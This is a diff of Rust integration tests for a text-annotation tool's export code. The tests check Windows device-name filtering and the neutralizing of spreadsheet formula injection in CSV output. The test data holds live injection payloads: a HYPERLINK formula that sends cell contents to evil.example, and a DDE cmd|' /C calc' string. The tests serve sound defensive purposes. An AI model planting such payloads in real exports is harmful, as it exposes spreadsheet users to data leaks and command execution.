@@ -5,16 +5,29 @@
 
 use std::path::Path;
 
+mod common;
+
 use assert_cmd::Command;
 use jiff::Timestamp;
 use spanmark::io::formats::{ExportFormat, ExportOptions, LayerChoice, Split, export};
 use spanmark::io::save_project;
-use spanmark::model::{DocStatus, Document, LabelSchema, LayerId, Project, Span, SpanId};
+use spanmark::model::{DocStatus, Document, LabelSchema, LayerId, Project, Span};
 
 const SAMPLE: &str = "sample-projects/kp-wssp-abduction-attempt.spanmark.json";
 
 fn spanmark() -> Command {
     Command::cargo_bin("spanmark").unwrap()
+}
+
+/// Every record of a CSV file, read back with the csv crate.
+fn csv_rows(path: &Path) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(path)
+        .unwrap()
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
 }
 
 fn files_under(dir: &Path) -> Vec<String> {
@@ -162,15 +175,11 @@ fn two_layers_need_a_choice() {
         .output()
         .unwrap();
     assert!(o.status.success());
-    let csv = std::fs::read_to_string(dir.path().join("o").join("data.csv")).unwrap();
-    assert_eq!(
-        csv.lines().count(),
-        1 + 3,
-        "header plus the three done documents"
-    );
+    let rows = csv_rows(&dir.path().join("o").join("data.csv"));
+    assert_eq!(rows.len(), 1 + 3, "header plus the three done documents");
     assert!(
-        csv.lines().skip(1).all(|l| l.contains(",ACTOR,Bannu,")),
-        "{csv}"
+        rows[1..].iter().all(|r| r[3] == "ACTOR" && r[4] == "Bannu"),
+        "{rows:?}"
     );
 }
 
@@ -184,6 +193,9 @@ fn hostile_document_ids_never_escape_the_folder() {
         "a\\b",
         "...",
         &"x".repeat(300),
+        "COM¹",
+        "lpt³.txt",
+        "Com0",
     ];
     let mut p = Project::new(LabelSchema::default());
     p.ensure_annotator("alice");
@@ -198,7 +210,13 @@ fn hostile_document_ids_never_escape_the_folder() {
         ..Default::default()
     };
     let summary = export(&p, ExportFormat::Brat, &out, &options).unwrap();
-    let files = files_under(&out);
+    let mut files = files_under(&out);
+    let manifest = out
+        .join(".spanmark-export.json")
+        .to_string_lossy()
+        .into_owned();
+    assert!(files.contains(&manifest), "{files:?}");
+    files.retain(|f| *f != manifest);
     assert_eq!(files.len(), ids.len() * 2 + 2, "{files:?}");
     let out_str = out.to_string_lossy().into_owned();
     for f in &files {
@@ -212,7 +230,11 @@ fn hostile_document_ids_never_escape_the_folder() {
             !name.starts_with('.') && name.chars().count() <= 110,
             "{name}"
         );
-        assert_ne!(name.to_uppercase(), "CON.TXT");
+        let device = name.split('.').next().unwrap().to_uppercase();
+        assert!(
+            !["CON", "COM¹", "LPT³", "COM0"].contains(&device.as_str()),
+            "{name} is a Windows device name"
+        );
     }
     assert_eq!(summary.files.len(), files.len());
     assert!(!dir.path().join("etc").exists());
@@ -220,28 +242,7 @@ fn hostile_document_ids_never_escape_the_folder() {
 
 #[test]
 fn split_is_deterministic_and_never_splits_a_document() {
-    let mut p = Project::new(LabelSchema::default());
-    p.ensure_annotator("a");
-    for i in 0..20 {
-        let mut d = Document::new(
-            format!("d{i}"),
-            format!("d{i}"),
-            format!("Bannu number {i}."),
-        );
-        let span = Span::new(
-            SpanId(i + 1),
-            0,
-            5,
-            "LOCATION",
-            d.char_len(),
-            Timestamp::UNIX_EPOCH,
-        )
-        .unwrap();
-        d.layer_mut(&LayerId::Annotator("a".into()))
-            .insert(span)
-            .unwrap();
-        p.add_document(d).unwrap();
-    }
+    let p = common::one_span_documents("d", 20);
     let dir = tempfile::tempdir().unwrap();
     let run = |seed: u64, out: &str| {
         let options = ExportOptions {
@@ -264,5 +265,145 @@ fn split_is_deterministic_and_never_splits_a_document() {
     assert!(
         card.contains("- split: validation\n    path: validation.jsonl"),
         "{card}"
+    );
+}
+
+/// A project whose every text cell (document id, label, span text, note,
+/// annotator) is one of `cells`, one document per cell.
+fn formula_project(cells: &[&str]) -> Project {
+    let mut p = Project::new(LabelSchema::default());
+    for (i, cell) in cells.iter().enumerate() {
+        // Document ids must be unique: the cell, then a number.
+        let id = format!("{cell}{i}");
+        let text = format!("{cell} in Bannu");
+        let mut d = Document::new(id.clone(), id, text.clone());
+        let len = cell.chars().count();
+        let mut span = Span::new(
+            p.allocate_span_id(),
+            0,
+            len,
+            "LOCATION",
+            d.char_len(),
+            Timestamp::UNIX_EPOCH,
+        )
+        .unwrap();
+        span.set_note((*cell).to_string());
+        d.layer_mut(&LayerId::Annotator("alice".into()))
+            .insert(span)
+            .unwrap();
+        p.add_document(d).unwrap();
+    }
+    p.ensure_annotator("alice");
+    p
+}
+
+#[test]
+fn csv_cells_that_would_be_formulas_get_a_quote_unless_raw() {
+    let live = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
+        "=1+1",
+        "+1",
+        "-2",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A3)",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let inert = [
+        "1-2",
+        "Bannu",
+        "“Karak”",
+        "بنوں",
+        "🙂=1",
+        " =1",
+        "a;=1+1",
+        "'=quoted",
+    ];
+    let all: Vec<&str> = live.iter().chain(&inert).copied().collect();
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("p.spanmark.json");
+    save_project(&formula_project(&all), &path).unwrap();
+    let run = |out: &str, raw: bool| {
+        let mut cmd = spanmark();
+        cmd.arg("export")
+            .arg(&path)
+            .args(["--format", "csv", "--out"])
+            .arg(dir.path().join(out));
+        if raw {
+            cmd.arg("--raw");
+        }
+        let o = cmd.output().unwrap();
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        let rows = csv_rows(&dir.path().join(out).join("data.csv"));
+        assert_eq!(rows.len(), 1 + all.len());
+        rows
+    };
+    let safe = run("safe", false);
+    let raw = run("raw", true);
+    for (i, cell) in all.iter().enumerate() {
+        let want = if live.contains(cell) {
+            format!("'{cell}")
+        } else {
+            cell.to_string()
+        };
+        let id = format!("{cell}{i}");
+        let row = safe.iter().find(|r| r[5] == want).unwrap();
+        // document, text and note: neutralized alike; offsets stay numbers.
+        let want_id = if live.contains(cell) {
+            format!("'{id}")
+        } else {
+            id.clone()
+        };
+        assert_eq!((&row[0], &row[4]), (&want_id, &want), "{cell:?}");
+        assert_eq!(
+            (&row[1], &row[2]),
+            (&"0".to_string(), &cell.chars().count().to_string())
+        );
+        let row = raw.iter().find(|r| r[0] == id).unwrap();
+        assert_eq!(
+            (&row[4], &row[5]),
+            (&cell.to_string(), &cell.to_string()),
+            "{cell:?}"
+        );
+    }
+    // Every text cell is quoted, so a ; or tab cannot start a cell in a spreadsheet
+    // that splits on it; raw writes the minimal quoting of earlier versions.
+    let bytes = std::fs::read_to_string(dir.path().join("safe").join("data.csv")).unwrap();
+    assert!(bytes.contains("\"a;=1+1\""), "{bytes}");
+    let bytes = std::fs::read_to_string(dir.path().join("raw").join("data.csv")).unwrap();
+    assert!(bytes.contains(",a;=1+1,"), "{bytes}");
+}
+
+#[test]
+fn csv_labels_and_annotators_are_neutralized_too() {
+    let mut p = formula_project(&["Bannu"]);
+    let layer = p.documents[0].layers.remove("alice").unwrap();
+    let mut span = layer.iter().next().unwrap().clone();
+    span.label = "=cmd".into();
+    let mut l = spanmark::model::Layer::default();
+    l.insert(span).unwrap();
+    p.documents[0].layers.insert("@evil".into(), l);
+    p.schema.ensure("=cmd");
+    p.ensure_annotator("@evil");
+    let dir = tempfile::tempdir().unwrap();
+    let options = ExportOptions {
+        layer: LayerChoice::Annotator("@evil".into()),
+        ..Default::default()
+    };
+    export(&p, ExportFormat::Csv, &dir.path().join("s"), &options).unwrap();
+    let rows = csv_rows(&dir.path().join("s").join("data.csv"));
+    assert_eq!(
+        (rows[1][3].as_str(), rows[1][6].as_str()),
+        ("'=cmd", "'@evil")
+    );
+    let raw = ExportOptions {
+        raw: true,
+        ..options
+    };
+    export(&p, ExportFormat::Csv, &dir.path().join("r"), &raw).unwrap();
+    let rows = csv_rows(&dir.path().join("r").join("data.csv"));
+    assert_eq!(
+        (rows[1][3].as_str(), rows[1][6].as_str()),
+        ("=cmd", "@evil")
     );
 }
